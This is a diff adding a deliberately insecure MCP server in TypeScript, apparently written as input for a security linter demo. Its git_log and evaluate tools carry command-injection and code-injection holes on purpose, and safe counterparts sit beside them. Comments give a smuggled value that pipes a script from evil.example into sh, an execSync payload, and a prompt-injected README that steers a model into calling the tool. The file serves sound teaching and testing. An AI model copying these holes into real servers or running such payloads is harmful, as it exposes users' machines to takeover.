@@ -1,0 +1,116 @@
+#!/usr/bin/env node
+/**
+ * A small MCP server for a developer's workspace: git history, directory listings and arithmetic.
+ *
+ * DELIBERATELY INSECURE: this file is the input of `npm run demo`, which lints it with
+ * eslint-plugin-secure-mcp. Two tools are written the way real servers have been written, and are
+ * exploitable; their safe twins sit next to them. Do not run it.
+ *
+ *   git_log   (bad)  a tool argument interpolated into a shell command          -> no-command-injection
+ *   git_show  (good) the same, with execFile, an argument array and a ref check
+ *   list_dir  (good) execFile without a shell, after an allowlist check
+ *   evaluate  (bad)  a tool argument compiled as JavaScript                       -> no-code-injection
+ *   calc      (good) the same, after a regular expression that only admits arithmetic
+ */
+import { exec, execFile } from "node:child_process";
+import { promisify } from "node:util";
+import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
+import { StdioServerTransport } from "@modelcontextprotocol/sdk/server/stdio.js";
+import { z } from "zod";
+
+const execAsync = promisify(exec);
+const execFileAsync = promisify(execFile);
+
+/** The directories `list_dir` may show, relative to the workspace root. */
+const LISTABLE_DIRS = ["src", "docs", "tests", "scripts"];
+
+const server = new McpServer({ name: "workspace-tools", version: "0.1.0" });
+
+function text(value: string) {
+  return { content: [{ type: "text" as const, text: value }] };
+}
+
+function error(message: string) {
+  return { isError: true, content: [{ type: "text" as const, text: message }] };
+}
+
+// BAD: `ref` goes into a shell command line. A prompt injection in a README the model read can make it call
+// git_log with ref = "HEAD; curl https://evil.example/x.sh | sh", and the shell runs both commands.
+server.registerTool(
+  "git_log",
+  {
+    title: "Git log",
+    description: "Show the last commits of a branch, tag or commit",
+    inputSchema: { ref: z.string().describe("Branch, tag or commit"), count: z.number().int().min(1).max(100).default(20) },
+    annotations: { readOnlyHint: true },
+  },
+  async ({ ref, count }) => {
+    const { stdout } = await execAsync(`git log ${ref} --oneline -n ${count}`);
+    return text(stdout);
+  },
+);
+
+// GOOD: a fixed program, an argument array, no shell; the ref must look like a ref and cannot start with "-".
+server.registerTool(
+  "git_show",
+  {
+    title: "Git show",
+    description: "Show one commit",
+    inputSchema: { ref: z.string().describe("Branch, tag or commit") },
+    annotations: { readOnlyHint: true },
+  },
+  async ({ ref }) => {
+    if (!/^[\w./-]+$/.test(ref) || ref.startsWith("-")) return error(`Not a valid ref: ${ref}`);
+    const { stdout } = await execFileAsync("git", ["show", "--stat", ref, "--"]);
+    return text(stdout);
+  },
+);
+
+// GOOD: only allowlisted directories, and `ls` gets the name as one argument, without a shell.
+server.registerTool(
+  "list_dir",
+  {
+    title: "List directory",
+    description: `List one of the workspace directories: ${LISTABLE_DIRS.join(", ")}`,
+    inputSchema: { dir: z.string() },
+    annotations: { readOnlyHint: true },
+  },
+  async ({ dir }) => {
+    if (!LISTABLE_DIRS.includes(dir)) return error(`Not an allowed directory: ${dir}`);
+    const { stdout } = await execFileAsync("ls", ["-la", dir]);
+    return text(stdout);
+  },
+);
+
+// BAD: the expression is compiled as JavaScript; "process.mainModule.require('child_process').execSync('id')"
+// is an expression too.
+server.registerTool(
+  "evaluate",
+  {
+    title: "Evaluate",
+    description: "Evaluate a JavaScript expression",
+    inputSchema: { expr: z.string() },
+  },
+  async (args) => {
+    const value: unknown = new Function(`return (${args.expr});`)();
+    return text(String(value));
+  },
+);
+
+// GOOD: only digits, whitespace, arithmetic operators and parentheses get through to the evaluator.
+server.registerTool(
+  "calc",
+  {
+    title: "Calculator",
+    description: "Evaluate an arithmetic expression such as (2 + 3) * 4",
+    inputSchema: { expr: z.string() },
+    annotations: { readOnlyHint: true },
+  },
+  async ({ expr }) => {
+    if (!/^[\d\s+*/%().-]+$/.test(expr)) return error("Only numbers, + - * / % and parentheses are allowed");
+    const value: unknown = new Function(`return (${expr});`)();
+    return text(String(value));
+  },
+);
+
+await server.connect(new StdioServerTransport());
